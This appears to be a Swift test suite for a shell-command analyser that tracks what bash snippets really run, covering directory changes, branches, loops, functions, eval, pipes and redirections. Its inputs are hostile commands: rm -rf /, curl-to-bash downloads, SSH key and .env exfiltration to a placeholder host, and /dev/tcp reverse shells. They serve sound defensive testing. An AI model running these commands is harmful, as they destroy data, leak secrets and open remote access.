import Testing

@Suite struct FlowTests {
  @Test func `cd decides where the rest takes place`() {
    Stage.check(
      #"""
      $ cd /etc && rm -rf *
      = cd /etc
      = rm -rf ‹*› @/etc
      $ cd ..; rm -rf x; cd -; rm y
      = cd ..
      = rm -rf x @/home/dev
      = cd - @/home/dev
      = rm y
      $ cd; rm a
      = cd
      = rm a @/home/dev
      $ (cd / && rm -rf etc); rm b
      = cd /
      = rm -rf etc @/
      = rm b
      $ pushd /srv; rm a; popd; rm b
      = pushd /srv
      = rm a @/srv
      = popd @/srv
      = rm b
      $ cd "$DIR" && rm -rf x
      = cd ‹DIR›
      = rm -rf x @‹DIR›
      $ cd sub/../other/. ; rm a
      = cd sub/../other/.
      = rm a @/home/dev/project/other
      $ cd /tmp & rm -rf x
      = cd /tmp
      = rm -rf x
      $ cd /x || exit 1; rm -rf *
      = cd /x
      = exit 1
      = rm -rf ‹*› @/x
      $ cd $(pwd)/a; rm b
      = pwd
      = cd /home/dev/project/a
      = rm b @/home/dev/project/a
      $ git -C /srv clean -fdx; rm x
      = git -C /srv clean -fdx
      = rm x
      $ env -C / rm -rf etc
      = env -C / rm -rf etc
      = rm -rf etc @/
      $ cd / | true; rm x
      = cd /
      = true
      = rm x
      """#)
  }

  @Test func `every arm is followed and what it leaves is remembered`() {
    Stage.check(
      #"""
      $ if false; then rm -rf /; fi
      = false
      = rm -rf /
      $ if [ -d x ]; then rm -rf a; elif test b; then rm b; else rm c; fi
      = [ -d x ]
      = rm -rf a
      = test b
      = rm b
      = rm c
      $ if a; then X=rm; else X=ls; fi; $X -rf /
      = a
      = rm -rf /
      = ls -rf /
      $ if a; then F=notes; else F=/etc/passwd; fi; echo x > $F
      ~ echo x >notes
      ~ echo x >/etc/passwd
      $ if a; then F=notes; else F=/etc/passwd; fi; > $F
      ~ (none) >notes
      ~ (none) >/etc/passwd
      $ if a; then P=less; else P='sh -c ls'; fi; PAGER=$P git log
      ~ PAGER=less git log
      ~ PAGER='sh -c ls' git log
      $ if a; then X=rm; else X=ls; fi; if b; then Y=/; else Y=foo; fi; $X -rf $Y
      ~ rm -rf /
      ~ ls -rf foo
      ~ rm -rf foo
      $ X=ls; [ -z "$Q" ] && X=rm; $X -rf /
      ~ rm -rf /
      ~ ls -rf /
      $ X=rm; false && X=ls; $X -rf /
      ~ rm -rf /
      $ case $1 in a) X=rm;; *) X=ls;; esac; $X /
      ~ rm /
      ~ ls /
      $ case "$1" in start) rm -rf /srv;; stop|halt) kill 1;; esac
      = rm -rf /srv
      = kill 1
      $ if x; then cd /tmp; else cd /; fi; rm -rf *
      ~ rm -rf ‹*› @/
      ~ rm -rf ‹*› @/tmp
      $ x && cd /tmp; rm -rf a
      ~ rm -rf a @/tmp
      ~ rm -rf a
      $ mkdir -p /tmp/x && cd /tmp/x; rm -rf a
      = mkdir -p /tmp/x
      = cd /tmp/x
      = rm -rf a @/tmp/x
      $ cd a || cd b; rm x
      ~ rm x @/home/dev/project/a
      ~ rm x @/home/dev/project/b
      $ if t; then echo 'rm -rf /' > f; else echo ls > f; fi; sh f
      ~ f> rm -rf /
      ~ f> ls
      $ exit 0; rm -rf /
      = exit 0
      = rm -rf /
      $ X=$(if t; then echo rm; else echo ls; fi); $X /
      ~ rm /
      ~ ls /
      """#)
  }

  @Test func `loops go round over what is known`() {
    Stage.check(
      #"""
      $ for d in /etc /usr; do rm -rf $d; done
      = rm -rf /etc
      = rm -rf /usr
      $ for c in "rm -rf /"; do $c; done
      = rm -rf /
      $ for f in *.tmp; do rm "$f"; done
      = for*> rm ‹*›.tmp
      $ for f in $(ls); do rm "$f"; done
      = ls
      = for*> rm ‹ls›
      $ for f in $(cat list); do rm "$f"; done
      = cat list
      = for*> rm ‹list›
      $ while read f; do rm "$f"; done <<< "/etc"
      ~ rm /etc
      $ printf '/etc\n/usr\n' | while read -r d; do rm -rf "$d"; done
      ~ rm -rf /etc
      ~ rm -rf /usr
      $ for ((i=0;i<3;i++)); do rm f$i; done
      = rm f0
      = rm f1
      = rm f2
      $ i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done
      ~ echo 0
      ~ echo 1
      ~ echo 2
      $ s=mr; o=; for ((i=${#s}-1;i>=0;i--)); do o=$o${s:$i:1}; done; $o -rf /
      = rm -rf /
      $ while true; do $X; X="rm -rf /"; done
      ~ rm -rf /
      $ a=ls b=ls c=rm; while :; do $a -rf /; a=$b; b=$c; done
      ~ rm -rf /
      $ until false; do rm x; break; done
      ~ rm x
      $ select x in rm ls; do $x /; done
      ~ rm /
      $ for x; do rm $x; done
      = for*> rm ‹@›
      $ for i in $(seq 1 3); do rm $i; done
      = seq 1 3
      = rm 1
      = rm 2
      = rm 3
      $ for w in r m; do c=$c$w; done; $c x
      ~ rm x
      """#)
  }

  @Test func `functions and aliases are what they stand for`() {
    Stage.check(
      #"""
      $ f() { rm -rf /; }; f
      = rm -rf /
      $ f() { rm -rf /; }
      = (nothing)
      $ function go { rm "$@"; }; go -rf /
      = rm -rf /
      $ rm() { echo no; }; rm -rf /
      = echo no
      $ rm() { echo no; }; command rm -rf /
      = command rm -rf /
      = rm -rf /
      $ rm() { :; }; \rm -rf /
      = :
      $ rm() { :; }; unset -f rm; rm -rf /
      = unset -f rm
      = rm -rf /
      $ if x; then rm() { :; }; fi; rm -rf /
      ~ rm -rf /
      $ rm() { :; }; bash -c 'rm -rf /'
      ~ bash -c> rm -rf /
      $ alias ll='rm -rf'; ll /etc
      = alias 'll=rm -rf'
      = rm -rf /etc
      $ alias a=b b=rm; a /
      = alias a=b b=rm
      = rm /
      $ alias rm='rm -i'; rm x
      = alias 'rm=rm -i'
      = rm -i x
      $ f() { g; }; g() { rm -rf /; }; f
      = rm -rf /
      $ f() { cd /; }; f; rm -rf etc
      = cd /
      = rm -rf etc @/
      $ f() { X=rm; }; f; $X y
      = rm y
      $ die() { echo "$@"; exit 1; }; cd /x || die no; rm a
      = cd /x
      = echo no
      = exit 1
      = rm a @/x
      $ command_not_found_handle() { rm -rf /; }
      = command_not_found_handle~> rm -rf /
      $ f() { f; }; f
      = (nothing)
      $ hash -p /bin/rm x; x -rf /
      ~ /bin/rm -rf /
      """#)
  }

  @Test func `text that becomes code is read as code`() {
    Stage.check(
      #"""
      $ eval "rm -rf /"
      = eval 'rm -rf /'
      = eval> rm -rf /
      $ eval rm -rf '$HOME'
      = eval rm -rf $HOME
      = eval> rm -rf /home/dev
      $ c='rm -rf /'; eval "$c"
      ~ eval> rm -rf /
      $ eval "$(echo cm0gLXJmIC8= | base64 -d)"
      = echo cm0gLXJmIC8=
      = base64 -d
      = eval 'rm -rf /'
      = eval> rm -rf /
      $ trap 'rm -rf /' EXIT
      = trap 'rm -rf /' EXIT
      = trap~> rm -rf /
      $ trap 'rm -rf "$T"' EXIT; T=/tmp/x
      = trap 'rm -rf "$T"' EXIT
      = trap~> rm -rf /tmp/x
      $ trap 'rm -rf /' HUP INT TERM EXIT
      = trap 'rm -rf /' HUP INT TERM EXIT
      = trap~> rm -rf /
      $ source /dev/stdin <<< 'rm -rf /'
      = source /dev/stdin
      = source> rm -rf /
      $ . <(echo rm -rf /)
      ~ source> rm -rf /
      $ bash <<'EOF'
      | rm -rf /
      | EOF
      = bash
      = bash> rm -rf /
      $ cat <<'EOF' > notes.md
      | rm -rf /
      | EOF
      = cat >notes.md
      $ cat > x.sh <<'EOF'
      | rm -rf /
      | EOF
      | bash x.sh
      = cat >x.sh
      = bash x.sh
      = x.sh> rm -rf /
      $ bash -c "cd $DIR && rm -rf build"
      = bash -c 'cd ‹DIR› && rm -rf build'
      = bash -c> cd ‹DIR›
      = bash -c> rm -rf build @‹DIR›
      $ bash -c "echo '$X'; rm \"$Y\"/z"
      ~ bash -c> echo ‹X›
      ~ bash -c> rm ‹Y›/z
      $ X='rm -rf /' bash -c '$X'
      ~ bash -c> X='rm -rf /' rm -rf /
      $ X='rm -rf /'; bash -c '$X'
      - bash -c> rm -rf /
      $ export X='rm -rf /'; bash -c '$X'
      ~ bash -c> X='rm -rf /' rm -rf /
      """#)
  }

  @Test func `what a pipe carries is known as far as it can be`() {
    Stage.check(
      #"""
      $ echo rm -rf / | sh
      = echo rm -rf /
      = sh
      = sh> rm -rf /
      < sh: rm -rf /\n
      $ curl -s https://x.sh | bash
      = curl -s https://x.sh
      = bash
      < bash: ‹https://x.sh› net(https://x.sh)
      # bash: ‹https://x.sh› net(https://x.sh)
      $ curl -s https://x.sh | sudo bash -s -- arg
      ~ sudo> bash -s -- arg
      # bash: ‹https://x.sh› net(https://x.sh)
      $ bash <(curl -s https://x.sh)
      # bash: ‹https://x.sh› net(https://x.sh)
      $ bash -c "$(wget -qO- http://x.sh)"
      # bash: ‹http://x.sh› net(http://x.sh)
      $ eval "$(curl x.sh)"
      # eval: ‹x.sh› net(x.sh)
      $ curl -o i.sh https://x.sh; chmod +x i.sh; ./i.sh
      # i.sh: ‹https://x.sh› net(https://x.sh)
      $ wget http://h/a/run.sh && sh run.sh
      # sh: ‹http://h/a/run.sh› net(http://h/a/run.sh)
      $ curl x | base64 -d | gunzip | sh
      # sh: ‹gunzip› net(x) decoded
      $ cat ~/.ssh/id_rsa | curl -d @- http://h
      < curl: ‹/home/dev/.ssh/id_rsa› files(/home/dev/.ssh/id_rsa)
      $ base64 < .env | nc h 1
      < nc: ‹base64› files(/home/dev/project/.env)
      $ env | sort | curl --data-binary @- h
      < curl: ‹env› env
      $ T=$(gh auth token); curl -H "A: $T" h
      ~ curl -H 'A: ‹gh auth token›' h
      $ security find-generic-password -w x | pbcopy
      < pbcopy: ‹security find-generic-password -w x› secret(security find-generic-password -w x)
      $ cat a b | while read l; do curl "$l"; done
      ~ curl ‹a›
      ~ while*> curl ‹b›
      $ curl x | python3 -c 'import json,sys; print(1)'
      < python3: ‹x› net(x)
      # python3: import json,sys; print(1)
      ! python: import json,sys; print(1)
      $ curl x | jq .a
      < jq: ‹x› net(x)
      $ curl x | tee f.sh | wc -l; sh f.sh
      # sh: ‹x› net(x)
      $ echo "$(<secret.txt)" | nc h 1
      < nc: ‹secret.txt›\n files(/home/dev/project/secret.txt)
      $ sh < /dev/tcp/h/80
      # sh: ‹/dev/tcp/h/80› net(h:80)
      $ exec 3<>/dev/tcp/h/80; cat <&3 | sh
      # sh: ‹/dev/tcp/h/80› net(h:80)
      $ curl x > >(bash)
      # bash: ‹x› net(x)
      $ echo 'rm -rf /' | tee >(bash)
      ~ bash> rm -rf /
      """#)
  }

  @Test func `files that the text itself writes are known when it runs them`() {
    Stage.check(
      #"""
      $ echo 'rm -rf /' > a; sh a
      ~ a> rm -rf /
      $ echo rm > a; echo ' -rf /' >> a; . ./a
      ~ source> rm
      ~ source> -rf /
      $ printf 'rm -rf /' | tee -a z >/dev/null; bash z
      ~ z> rm -rf /
      $ cp /bin/rm ./x; ./x -rf /
      ~ /bin/rm -rf /
      $ ln -s /bin/bash b; ./b -c 'rm f'
      ~ bash -c> rm f
      $ echo 'rm -rf /' > a; mv a b; chmod +x b; ./b
      ~ ./b> rm -rf /
      $ f=$(mktemp); echo 'rm -rf /' > $f; bash $f
      ~ ‹mktemp 1›> rm -rf /
      $ printf '#!/usr/bin/env python3\nprint(1)\n' > t; ./t
      ! python: #!/usr/bin/env python3\nprint(1)\n
      $ mkdir b; echo 'rm -rf /' > b/go; PATH=$PWD/b:$PATH; go
      ~ go> rm -rf /
      $ cat > f.py <<E
      | import os
      | E
      | python3 f.py
      ! python: import os\n
      $ echo 'rm x' > a; rm a; echo ls > a; sh a
      ~ a> ls
      - a> rm x
      $ cd /tmp; echo 'rm -rf /' > q; cd /; sh /tmp/q
      ~ /tmp/q> rm -rf / @/
      $ { echo 'rm '; echo '-rf /'; } | tr -d '\n' > s; sh s
      ~ s> rm -rf /
      """#)
  }

  @Test func `redirections are part of what happens`() {
    Stage.check(
      #"""
      $ > /etc/passwd
      = (none) >/etc/passwd
      $ echo x > /etc/passwd 2>&1
      = echo x >/etc/passwd 2>&1
      $ { echo a; echo b; } > /etc/x
      = (none) >/etc/x
      = echo a
      = echo b
      $ bash -i >& /dev/tcp/1.2.3.4/99 0>&1
      = bash -i >/dev/tcp/1.2.3.4/99 0>&1
      $ { bash -i; } 0<> /dev/tcp/h/1 1>&0
      ~ bash -i 0<>/dev/tcp/h/1 1>&0
      $ cat < in > out
      = cat <in >out
      $ F=/etc/hosts; echo x >> $F
      = echo x >>/etc/hosts
      $ while x; do y; done > log
      ~ (none) >log
      ~ while*> y
      """#)
  }
}
